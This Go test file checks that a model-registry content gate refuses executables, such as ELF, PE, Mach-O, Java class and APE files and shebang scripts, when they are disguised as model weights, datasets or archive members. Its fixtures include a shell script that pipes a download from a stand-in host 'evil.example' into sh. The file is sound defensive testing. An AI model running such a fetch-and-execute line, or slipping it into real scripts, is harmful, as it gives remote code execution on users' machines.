package content_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/binary"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/pullgate/pullgate/test/modelcorpus"
	"github.com/pullgate/pullgate/verify/content"
)

// Minimal executable headers, laid out as each format's loader reads them
// (field offsets from the ELF, PE/COFF and Mach-O specifications and the
// Cosmopolitan APE specification), followed by filler so each is a
// plausible weight-sized blob.
func elfHeader() []byte {
	h := make([]byte, 64)
	copy(h, "\x7fELF")
	h[4], h[5], h[6] = 2, 1, 1                  // ELFCLASS64, little-endian, EV_CURRENT
	binary.LittleEndian.PutUint16(h[16:], 2)    // ET_EXEC
	binary.LittleEndian.PutUint16(h[18:], 0x3e) // x86-64
	binary.LittleEndian.PutUint32(h[20:], 1)
	binary.LittleEndian.PutUint16(h[52:], 64) // e_ehsize
	return append(h, make([]byte, 200)...)
}

// peHeader is a DOS header whose e_lfanew points at a PE signature and COFF
// header (at lfanew, which may lie past the 4096-byte sniff window).
func peHeader(lfanew int) []byte {
	h := make([]byte, lfanew+24+100)
	copy(h, "MZ")
	binary.LittleEndian.PutUint16(h[2:], 0x90)
	binary.LittleEndian.PutUint32(h[0x3c:], uint32(lfanew))
	copy(h[0x40:], []byte{0x0e, 0x1f, 0xba, 0x0e, 0x00, 0xb4, 0x09, 0xcd, 0x21}) // DOS stub
	copy(h[lfanew:], "PE\x00\x00")
	binary.LittleEndian.PutUint16(h[lfanew+4:], 0x8664) // AMD64
	return h
}

func machoHeader(magic uint32, le bool) []byte {
	h := make([]byte, 32+100)
	bo := binary.ByteOrder(binary.BigEndian)
	if le {
		bo = binary.LittleEndian
	}
	// the magic as the loader reads it in the file's byte order
	binary.BigEndian.PutUint32(h, magic)
	bo.PutUint32(h[4:], 0x01000007) // CPU_TYPE_X86_64
	bo.PutUint32(h[12:], 2)         // MH_EXECUTE
	return h
}

func fatHeader() []byte {
	h := make([]byte, 8+20*2+100)
	binary.BigEndian.PutUint32(h, 0xcafebabe)
	binary.BigEndian.PutUint32(h[4:], 2) // nfat_arch
	return h
}

func classFile() []byte {
	h := make([]byte, 64)
	binary.BigEndian.PutUint32(h, 0xcafebabe)
	binary.BigEndian.PutUint16(h[6:], 65) // Java 21
	return h
}

// apeHeader is a fat APE's prologue (modelcorpus.APE).
func apeHeader(magic string) []byte { return modelcorpus.APE(magic) }

const shebang = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"

type exeCase struct {
	name, what string
	data       []byte
}

func exeCases(t *testing.T) []exeCase {
	cases := []exeCase{
		{"elf", "an ELF executable", elfHeader()},
		{"pe", "a PE (Windows) executable", peHeader(0x80)},
		{"pe-header-past-window", "a PE (Windows) executable", peHeader(8192)},
		{"macho64-le", "a Mach-O executable", machoHeader(0xcffaedfe, true)},
		{"macho32-le", "a Mach-O executable", machoHeader(0xcefaedfe, true)},
		{"macho64-be", "a Mach-O executable", machoHeader(0xfeedfacf, false)},
		{"macho32-be", "a Mach-O executable", machoHeader(0xfeedface, false)},
		{"macho-fat", "a Mach-O universal (fat) executable", fatHeader()},
		{"java-class", "a Java class file", classFile()},
		{"ape", "an Actually Portable Executable (llamafile)", apeHeader("MZqFpD='")},
		{"ape-unix", "an Actually Portable Executable (llamafile)", apeHeader("jartsr='")},
		{"shebang", "a shebang script (#!/bin/sh)", []byte(shebang)},
		{"shebang-env", "a shebang script (#! /usr/bin/env python3)", []byte("#! /usr/bin/env python3\nimport os\nos.system('id')\n")},
	}
	if b, err := os.ReadFile("/bin/true"); err == nil && bytes.HasPrefix(b, []byte("\x7fELF")) {
		cases = append(cases, exeCase{"bin-true", "an ELF executable", b})
	} else {
		t.Logf("/bin/true is not a readable ELF file here (%v); minimal ELF header only", err)
	}
	return cases
}

func zipOf(t *testing.T, name string, data []byte, method uint16) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: method, Modified: time.Unix(0, 0)})
	if err != nil {
		t.Fatal(err)
	}
	f.Write(data)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func tarOf(t *testing.T, name string, data []byte) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg, Format: tar.FormatUSTAR}); err != nil {
		t.Fatal(err)
	}
	w.Write(data)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const (
	weightMT   = "application/vnd.cncf.model.weight.v1.raw"
	weightTar  = "application/vnd.cncf.model.weight.v1.tar"
	codeMT     = "application/vnd.cncf.model.code.v1.raw"
	codeTarMT  = "application/vnd.cncf.model.code.v1.tar"
	datasetTar = "application/vnd.cncf.model.dataset.v1.tar"
)

// TestExecutablesRefused: every executable kind, as a layer (undeclared,
// weight, dataset and code) and as a zip (stored and deflated) and tar
// member under a model's name, is refused with its format named. Before
// the check a layer was refused as "unrecognised binary data" (or served
// as text: shebang scripts, APEs), and archive members in code and dataset
// tars, where unknown binaries are allowed, were served.
func TestExecutablesRefused(t *testing.T) {
	var cases []gateCase
	allowCode := func(o *content.Options) { o.DenyCodeLayers = false }
	for _, e := range exeCases(t) {
		want := "bytes are " + e.what
		// Where raw data is served (formats.unknown: allow, dataset and
		// code layers), "MZ" alone is the start of one raw file in 65,536:
		// a PE is recognised there by its signature, which must lie in the
		// first 4096 bytes. A PE whose header lies further is judged as
		// raw data there (refused everywhere else).
		rawWant := want
		if e.name == "pe-header-past-window" {
			rawWant = ""
		}
		cases = append(cases,
			gateCase{name: e.name + "/layer", title: "model.safetensors", data: e.data, want: want},
			gateCase{name: e.name + "/weight-layer", mediaType: weightMT, title: "model.gguf", data: e.data, want: want},
			gateCase{name: e.name + "/unknown-allowed", title: "weights.bin", data: e.data, want: rawWant,
				opts: func(o *content.Options) { o.AllowUnknown = true }},
			gateCase{name: e.name + "/zip-stored", title: "model.zip", data: zipOf(t, "weights/model.bin", e.data, zip.Store), want: want},
			gateCase{name: e.name + "/zip-deflate", title: "model.zip", data: zipOf(t, "archive/data/0", e.data, zip.Deflate), want: want},
			gateCase{name: e.name + "/tar", mediaType: weightTar, data: tarOf(t, "model/pytorch_model.bin", e.data), want: want},
			gateCase{name: e.name + "/dataset-tar", mediaType: datasetTar, data: tarOf(t, "data/train-0000.parquet", e.data), want: rawWant},
		)
		if !strings.HasPrefix(e.name, "shebang") {
			// native code is refused whatever the layer or file name says,
			// even in a code layer that denyCodeLayers: false admits
			cases = append(cases,
				gateCase{name: e.name + "/code-layer", mediaType: codeMT, title: "kernel.so", data: e.data, want: rawWant, opts: allowCode},
				gateCase{name: e.name + "/code-tar", mediaType: codeTarMT, data: tarOf(t, "bin/tool.exe", e.data), want: rawWant, opts: allowCode},
			)
		}
	}
	runGateCases(t, cases)
}

// TestShebangScriptsAsCode: a script declared as code (a code layer, a
// member of one, a code file name) is code, decided by denyCodeLayers as a
// *.py file is, not refused as a disguised executable.
func TestShebangScriptsAsCode(t *testing.T) {
	allowCode := func(o *content.Options) { o.DenyCodeLayers = false }
	sh := []byte(shebang)
	runGateCases(t, []gateCase{
		{name: "code-layer-allowed", mediaType: codeMT, title: "run.sh", data: sh, opts: allowCode},
		{name: "code-layer-untitled-allowed", mediaType: codeMT, data: sh, opts: allowCode},
		{name: "code-name-allowed", title: "train.py", data: []byte("#!/usr/bin/env python3\nprint(1)\n"), opts: allowCode},
		{name: "code-tar-allowed", mediaType: codeTarMT, data: tarOf(t, "scripts/setup", sh), opts: allowCode},
		{name: "code-zip-member-allowed", title: "code.zip", data: zipOf(t, "scripts/run.sh", sh, zip.Deflate), opts: allowCode},
		{name: "code-layer-denied", mediaType: codeMT, title: "run.sh", data: sh, want: "denyCodeLayers"},
		{name: "code-name-denied", title: "run.sh", data: sh, want: "denyCodeLayers"},
		{name: "code-zip-member-denied", title: "code.zip", data: zipOf(t, "scripts/run.sh", sh, zip.Deflate), want: "denyCodeLayers"},
		// the same script under a model's name is disguised
		{name: "model-name", title: "model.safetensors", data: sh, opts: allowCode, want: "bytes are a shebang script"},
		{name: "zip-model-member", title: "model.zip", data: zipOf(t, "model.bin", sh, zip.Store), opts: allowCode, want: "bytes are a shebang script"},
	})
}

// TestExecutableLookalikesServed: model and text files whose bytes merely
// contain "MZ" or "#!", or start with them without being executables.
func TestExecutableLookalikesServed(t *testing.T) {
	// A safetensors file whose header is exactly 0x5A4D bytes starts
	// "MZ\0\0\0\0\0\0{": the header length, not a DOS header. (Writers
	// that pad the header to 8 bytes never produce it; the format allows
	// any length, so the sniffer must not refuse it.)
	h, n := modelcorpus.SafetensorsHeader(modelcorpus.SmallModel(), map[string]string{"note": "MZ #!/bin/sh"})
	mz := stWithHeaderLen(h, n, 0x5A4D)
	if string(mz[:2]) != "MZ" {
		t.Fatalf("fixture starts %q", mz[:8])
	}
	// header length 0x2123 starts "#!\0\0...": not a script either
	bang := stWithHeaderLen(h, n, 0x2123)
	if string(bang[:2]) != "#!" {
		t.Fatalf("fixture starts %q", bang[:8])
	}
	runGateCases(t, []gateCase{
		{name: "safetensors-MZ-length", title: "model.safetensors", data: mz},
		{name: "safetensors-#!-length", title: "model.safetensors", data: bang},
		{name: "safetensors-in-zip", title: "m.zip", data: zipOf(t, "model.safetensors", mz, zip.Deflate)},
		{name: "safetensors-in-tar", mediaType: weightTar, data: tarOf(t, "model.safetensors", bang)},
		// Ollama per-tensor layers are raw data: fp16 201.6 is "MZ"; a
		// real PE header in one is still refused
		{name: "tensor-blob-fp16-MZ", mediaType: "application/vnd.ollama.image.tensor", data: append([]byte{0x4d, 0x5a, 0x00, 0x3c, 0xff, 0x00}, make([]byte, 500)...)},
		{name: "tensor-blob-pe", mediaType: "application/vnd.ollama.image.tensor", data: peHeader(0x80), want: "bytes are a PE (Windows) executable"},
		{name: "tensor-blob-elf", mediaType: "application/vnd.ollama.image.tensor", data: elfHeader(), want: "bytes are an ELF executable"},
		{name: "comment", title: "README.md", data: []byte("# Model card\n#! not a script\nMZ too\n")},
		{name: "text-starting-MZ", title: "NOTES.txt", data: []byte("MZ is the DOS magic; this file is prose.\n")},
		{name: "hash-bang-word", title: "notes.txt", data: []byte("#!important: not a path\n")},
	})
}

// stWithHeaderLen is modelcorpus.SafetensorsHeaderLen.
func stWithHeaderLen(header string, dataLen uint64, hlen int) []byte {
	return modelcorpus.SafetensorsHeaderLen(header, dataLen, hlen)
}

// FuzzSniffExecutable: whatever the bytes, sniffing never panics, and a
// blob sniffed as an executable is refused as one in a weight layer (under
// any chunking), never served or refused for another reason.
func FuzzSniffExecutable(f *testing.F) {
	for _, b := range [][]byte{elfHeader(), peHeader(0x80), peHeader(4094), machoHeader(0xcffaedfe, true), fatHeader(), classFile(),
		apeHeader("MZqFpD='"), apeHeader("APEDBG='"), []byte(shebang), []byte("#!\x00\x00\x00\x00\x00\x00{}"), []byte("MZ"), []byte("# c\n")} {
		f.Add(b, uint8(7))
	}
	opts := content.Options{Pickle: content.PickleOptions{Mode: content.PickleScan}}
	f.Fuzz(func(t *testing.T, data []byte, chunk uint8) {
		h := data[:min(len(data), 4096)]
		if content.Sniff(h, int64(len(data))) != content.FormatExecutable {
			return
		}
		rep, err := content.InspectReader(opts, &chunkReader{b: data, n: int(chunk%64) + 1}, int64(len(data)), weightMT, "model.bin")
		if err != nil {
			t.Fatal(err)
		}
		if len(rep.Findings) == 0 || rep.Findings[0].Format != content.FormatExecutable || !strings.Contains(rep.Findings[0].Reason, "bytes are ") {
			t.Fatalf("sniffed as an executable but %+v", rep.Findings)
		}
	})
}
